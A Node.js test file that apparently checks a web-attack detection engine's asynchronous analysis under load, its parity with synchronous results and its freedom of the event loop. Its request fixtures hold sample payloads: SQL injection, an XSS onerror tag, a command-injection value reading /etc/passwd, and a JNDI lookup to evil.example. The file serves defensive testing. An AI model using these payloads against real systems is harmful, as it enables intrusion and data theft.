'use strict'
// analyzeAsync under load: many calls in flight on the libuv pool, over
// several engines, each verdict equal to the synchronous one; the event loop
// stays free while the pool works.
const { test } = require('node:test')
const assert = require('node:assert/strict')
const mg = require('..')
const { Engine } = mg

const REQUESTS = [
  { method: 'GET', uri: '/catalog/search?q=running+shoes&size=42&page=2', headers: { host: 'a.example', 'user-agent': 'Mozilla/5.0' } },
  { method: 'GET', uri: '/?id=1%27%20OR%201%3D1--' },
  { method: 'POST', uri: '/api', headers: [['Content-Type', 'application/json']], body: Buffer.from('{"q":"<img src=x onerror=alert(1)>"}') },
  { method: 'POST', uri: '/f', headers: [['Content-Type', 'application/x-www-form-urlencoded']], body: 'cmd=%3Bcat+%2Fetc%2Fpasswd&x=1' },
  { method: 'GET', uri: '/', headers: [['X-Api-Version', '${jndi:ldap://evil.example/a}']] }
]

test('2,000 concurrent analyzeAsync calls over three engines match analyze', async () => {
  const engines = [new Engine(), new Engine({ sensitivity: 'high' }), new Engine({ classes: ['sqli'] })]
  const jobs = []
  for (let i = 0; i < 2000; i++) {
    const engine = engines[i % engines.length]
    const req = REQUESTS[i % REQUESTS.length]
    jobs.push(engine.analyzeAsync(req).then(v => [engine, req, v]))
  }
  const results = await Promise.all(jobs)
  assert.equal(results.length, 2000)
  let attacks = 0
  for (const [engine, req, v] of results) {
    assert.deepEqual(v, engine.analyze(req))
    if (v.attack) attacks++
  }
  assert.ok(attacks > 500)
})

test('module-level analyzeAsync in parallel', async () => {
  const got = await Promise.all(Array.from({ length: 500 }, (_, i) => mg.analyzeAsync(REQUESTS[i % REQUESTS.length])))
  got.forEach((v, i) => assert.deepEqual(v, mg.analyze(REQUESTS[i % REQUESTS.length])))
})

test('the request is copied: changing a Buffer after the call does not change the verdict', async () => {
  const body = Buffer.from('{"user":"admin\' OR 1=1--"}')
  const req = { method: 'POST', uri: '/', headers: { 'content-type': 'application/json' }, body }
  const pending = mg.analyzeAsync(req)
  body.fill(0x61)
  const v = await pending
  assert.equal(v.attack, true)
  assert.equal(v.findings[0].class, 'sqli')
})

test('analyzeAsync leaves the event loop free: the work runs on the pool', async () => {
  // A large JSON body: analyzing it takes far longer than copying it.
  const items = Array.from({ length: 2000 }, (_, i) => `{"id":${i},"name":"item number ${i}","note":"fine; nothing (here)"}`)
  const req = { method: 'POST', uri: '/bulk', headers: { 'content-type': 'application/json' }, body: Buffer.from(`[${items.join(',')}]`) }
  const engine = new Engine({ limits: { max_body_bytes: 4 << 20, max_inputs: 1 << 20 } })
  const N = 4
  let t = process.hrtime.bigint()
  for (let i = 0; i < N; i++) engine.analyze(req)
  const syncMs = Number(process.hrtime.bigint() - t) / 1e6

  let ticks = 0
  const timer = setInterval(() => ticks++, 1)
  t = process.hrtime.bigint()
  const pending = Array.from({ length: N }, () => engine.analyzeAsync(req))
  const submitMs = Number(process.hrtime.bigint() - t) / 1e6
  const verdicts = await Promise.all(pending)
  clearInterval(timer)
  for (const v of verdicts) assert.deepEqual(v, engine.analyze(req))
  // The loop only copied the bytes: submitting took a small part of the work.
  assert.ok(submitMs < syncMs / 4, `submit ${submitMs.toFixed(1)} ms vs analyze ${syncMs.toFixed(1)} ms`)
  // And timers kept firing while the pool analyzed.
  assert.ok(ticks > 0, `${ticks} timer ticks during ${syncMs.toFixed(1)} ms of work`)
})
